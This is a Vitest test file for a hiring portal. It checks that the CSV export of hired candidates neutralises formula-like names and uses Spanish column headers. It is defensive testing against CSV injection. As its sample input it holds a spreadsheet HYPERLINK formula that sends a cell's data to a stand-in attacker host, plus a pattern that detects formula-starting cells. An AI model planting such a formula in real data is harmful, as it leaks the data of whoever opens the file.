import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { processDetailSchema, processListSchema } from '@portal/shared/processes/client';
import { hiredCandidatesCsv } from '@portal/shared/processes/hired-csv';
import { asCandidate } from '../../test-support/actors.js';
import { postAs } from '../../test-support/documents.js';
import {
  asStaff,
  createVacancyAs,
  HIRE_STRAIGHT_AWAY,
  moveApplicationAs,
  type StaffActor,
  companyIdAs,
} from '../../test-support/staff.js';
import { createTestApp, type TestContext } from '../../test-support/test-app.js';

// A candidate's name reaches the company's 'Descargar CSV' as typed: one that starts a formula must
// arrive there as text, or Excel runs it on the company's computer (CSV injection).
const FORMULA_NAME = '=HYPERLINK("https://evil.example/?d="&A3,"Ver")';
let ctx: TestContext;
let company: StaffActor;
let processId: number;

beforeAll(async () => {
  ctx = await createTestApp();
  const director = await asStaff(ctx, 'director@portal.local');
  company = await asStaff(ctx, 'empresa@portal.local');
  const vacancyId = await createVacancyAs(ctx, director, {
    titulo: 'Auxiliar de bodega',
    descripcion: 'Recibo y despacho de mercancía en el centro de distribución.',
    id_categoria: 2,
    salario: 1_900_000,
    id_empresa: await companyIdAs(ctx, director),
  });
  processId = processListSchema.parse(
    (await ctx.app.inject({ url: '/api/client/processes', headers: { cookie: company.cookie } })).json(),
  )[0]!.id;
  const candidate = await asCandidate(ctx, '59100001', FORMULA_NAME);
  const applied = await postAs(ctx, candidate, '/candidate/applications', { id_vacante: vacancyId });
  const id = applied.json().application.id_postulacion as number;
  await moveApplicationAs(ctx, director, id, HIRE_STRAIGHT_AWAY);
});
afterAll(() => ctx.close());

describe("the company's CSV of hired candidates", () => {
  it('carries a formula-like name as text, under Spanish column titles', async () => {
    const res = await ctx.app.inject({
      url: `/api/client/processes/${processId}`,
      headers: { cookie: company.cookie },
    });
    const process = processDetailSchema.parse(res.json());
    expect(process.candidatos.map((c) => c.nombre)).toContain(FORMULA_NAME);
    const [titles, ...lines] = hiredCandidatesCsv(process)
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    expect(titles).toBe(
      '"Nombre";"Cargo";"Edad (años)";"Experiencia (años)";"Certificaciones";"Fecha de contratación"',
    );
    const row = lines.find((line) => line.includes('HYPERLINK'))!;
    expect(
      row.startsWith(`"'=HYPERLINK(""https://evil.example/?d=""&A3,""Ver"")";"Auxiliar de bodega";`),
    ).toBe(true);
    // No cell of the file starts a formula.
    for (const line of lines) for (const cell of line.split(';')) expect(cell).not.toMatch(/^"?[=+\-@\t\r]/);
  });
});
